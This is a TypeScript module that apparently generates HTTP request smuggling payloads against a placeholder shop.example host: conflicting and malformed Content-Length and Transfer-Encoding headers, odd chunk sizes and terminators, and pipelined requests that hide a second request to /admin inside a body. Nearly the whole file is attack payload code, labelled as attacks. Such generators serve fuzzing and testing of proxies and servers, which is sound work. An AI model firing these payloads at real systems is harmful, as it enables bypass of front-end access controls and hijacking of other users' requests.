import { type Attack, attacks, type Door, request } from "./attack";

const host = "Host: shop.example";
const chunked = "Transfer-Encoding: chunked";
const whole = "5\r\nhello\r\n0\r\n\r\n";

/** Content that is a request of its own: a reader who loses count of the length takes it for one. */
function smuggled(path: string): string {
  return request(`${path}666`, { lines: [host, "X-Smuggled: 1"] });
}

/** One length or several, in spellings that some reader takes for a number. */
export function lengths({ method, path }: Door): Attack[] {
  const body = smuggled(path);
  const n = body.length;
  const values = [
    ...[
      `${n}`,
      `0${n}`,
      `+${n}`,
      `-${n}`,
      `${n}.0`,
      `${n}e0`,
      `0x${n.toString(16)}`,
      `${n},${n}`,
      `${n}, ${n}`,
      `${n} 0`,
    ],
    ...[`${n};`, `"${n}"`, `\x0b${n}`, `${n}\x0b`, `${n}\x00`, `${n}\xa0`, "", " ", "0", "-0", "00", "a", "0,1", "_"],
    ...["9223372036854775808", "18446744073709551616", "18446744073709551621", `${n + 1}`, `${n - 1}`, `${n}_0`],
  ];
  const lines = [
    ...values.map((value) => [`Content-Length: ${value}`]),
    ...[n, 0, 1].flatMap((one) => [n, 0, 1].map((other) => [`Content-Length: ${one}`, `Content-Length: ${other}`])),
    ...[["content-length: 0", `CONTENT-LENGTH: ${n}`], [`Content-Length : ${n}`], [` Content-Length: ${n}`]],
    ...[
      [`Content_Length: ${n}`],
      [`Content-Length\t: ${n}`],
      [`Content-Length:`, ` ${n}`],
      [`Content-Length: ${n}`, " 0"],
    ],
    ...[
      [`X-A: 1\nContent-Length: ${n}`],
      [`\x00Content-Length: ${n}`],
      [`Content-Length\x00: ${n}`],
      ["Content-Length"],
    ],
  ];
  return attacks(
    "lengths",
    lines.map((own) => request(path, { method, lines: [host, ...own], body })),
  );
}

/** Transfer codings that one reader takes for chunked and another does not. */
export function codings({ method, path }: Door): Attack[] {
  const values = [
    ...[
      "chunked",
      "Chunked",
      "CHUNKED",
      "\tchunked",
      "chunked\t",
      " chunked ",
      "\x0bchunked",
      "chunked\x0b",
      "\x0cchunked",
    ],
    ...[
      "chunked, identity",
      "identity, chunked",
      "identity",
      "chunked,chunked",
      "chunked,",
      ",chunked",
      "gzip, chunked",
    ],
    ...[
      "xchunked",
      "chunkedx",
      "chunked;q=1",
      '"chunked"',
      "'chunked'",
      "chun\x00ked",
      "chunked\x00",
      "\xa0chunked",
      "",
    ],
    ...[
      "chunk",
      "cow",
      "chunked\x7f",
      "\xffchunked",
      "chunked \x01",
      "chunked\rX-A: 1",
      "c hunked",
      "chu\xadnked",
      "deflate",
    ],
  ];
  const lines = [
    ...values.map((value) => [`Transfer-Encoding: ${value}`]),
    ...[
      [chunked, chunked],
      [chunked, "Transfer-Encoding: identity"],
      ["Transfer-Encoding: identity", chunked],
    ],
    ...[["Transfer-Encoding : chunked"], [" Transfer-Encoding: chunked"], ["Transfer-Encoding\t: chunked"]],
    ...[
      ["Transfer_Encoding: chunked"],
      ["Transfer-Encoding:", " chunked"],
      [chunked, " identity"],
      ["TRANSFER-ENCODING: chunked"],
    ],
    ...[["X-A: 1\nTransfer-Encoding: chunked"], ["\x00Transfer-Encoding: chunked"], ["Transfer-Encoding\x00: chunked"]],
    ...[["Transfer-Encoding"], ["Transfer Encoding: chunked"], ["\x0bTransfer-Encoding: chunked"], ["TE: chunked"]],
  ];
  const beside = ["Content-Length: 0", "Content-Length: 5", `Content-Length: ${whole.length}`];
  const body = whole + smuggled(path);
  return attacks("transfer codings", [
    ...lines.flatMap((own) => [
      request(path, { method, lines: [host, ...own], body }),
      ...beside.map((length) => request(path, { method, lines: [host, length, ...own], body })),
      request(path, { method, lines: [host, ...own, "Content-Length: 6"], body }),
    ]),
    ...lines.slice(0, 4).map((own) => request(path, { method, version: "HTTP/1.0", lines: [host, ...own], body })),
  ]);
}

/** Chunks that one reader takes for longer or shorter than another. */
export function chunks({ method, path }: Door): Attack[] {
  const octets = Array.from({ length: 256 }, (_, octet) => String.fromCharCode(octet));
  const sizes = [
    ...[
      "5",
      "05",
      "0000000000000005",
      `${"0".repeat(60)}5`,
      "5 ",
      "5\t",
      " 5",
      "\t5",
      "+5",
      "-5",
      "0x5",
      "0X5",
      "5h",
      "5_0",
    ],
    ...[
      "5.0",
      "5,5",
      "",
      "x",
      "10000000000000005",
      "100000005",
      "ffffffffffffffff",
      "7fffffffffffffff",
      "5;",
      "5;;",
      "5;a",
    ],
    ...[
      '5;a="b;c"',
      '5;a="b',
      "5;a=b;c",
      "5 ;a",
      "5; a",
      "5;a =b",
      "5;a= b",
      "5 xyz",
      `5;${"a".repeat(4000)}`,
      "5\r\n;a",
      "5\r",
    ],
  ];
  const bodies = [
    ...sizes.map((size) => `${size}\r\nhello\r\n0\r\n\r\n`),
    ...octets.flatMap((octet) => [`5${octet}\r\nhello\r\n0\r\n\r\n`, `5;a${octet}b\r\nhello\r\n0\r\n\r\n`]),
    ...["\n", "\r", "\r\r\n", "", "XX", " \r\n"].flatMap((end) => [
      `5${end}hello\r\n0\r\n\r\n`,
      `5\r\nhello${end}0\r\n\r\n`,
      `5\r\nhello\r\n0${end}\r\n`,
      `5\r\nhello\r\n0\r\n${end}`,
      `5;a${end}hello\r\n0\r\n\r\n`,
    ]),
    ...[
      "X-A: 1",
      "no colon",
      "",
      " fold",
      "X-A: \x00",
      "X-A : 1",
      "Content-Length: 9",
      chunked,
      "X-Real-IP: 1.1.1.1",
    ].flatMap((line) => [`5\r\nhello\r\n0\r\n${line}\r\n\r\n`, `5\r\nhello\r\n0;a=b\r\n${line}\n\r\n`]),
    ...["000", "0;a", "00;a=b", "0 ", "-0", "0x0"].map((zero) => `5\r\nhello\r\n${zero}\r\n\r\n`),
  ];
  return attacks(
    "chunks",
    bodies.map((body) => request(path, { method, lines: [host, chunked], body: body + smuggled(path) })),
  );
}

/** Requests one after another, some of them hidden in what the one before may or may not take for its content. */
export function pipelines({ method, path }: Door): Attack[] {
  const plain = request(path, { method, lines: [host, "Content-Length: 0"] });
  const hidden = request("/admin");
  return attacks("pipelines", [
    plain + plain,
    plain.repeat(20),
    plain + hidden + plain,
    hidden + plain,
    `\r\n${plain}`,
    `\r\n\r\n\r\n${plain}`,
    `\n${plain}`,
    ` ${plain}`,
    plain + request("//admin") + plain,
    request(path, { method, lines: [host, `Content-Length: ${hidden.length}`], body: hidden }) + plain,
    request(path, { method, lines: [host, "Content-Length: 0", "Connection: close"] }) + hidden,
    request(path, { method, lines: [host, "Expect: 100-continue", `Content-Length: ${hidden.length}`], body: hidden }),
    request(path, { method, lines: [host, "Upgrade: h2c", "Connection: Upgrade"], body: hidden }),
    request("/", { method: "POST", lines: [host, `Content-Length: ${hidden.length}`], body: hidden }) + plain,
    request("/x", { method: "POST", lines: [host, chunked], body: whole }) + plain,
  ]);
}
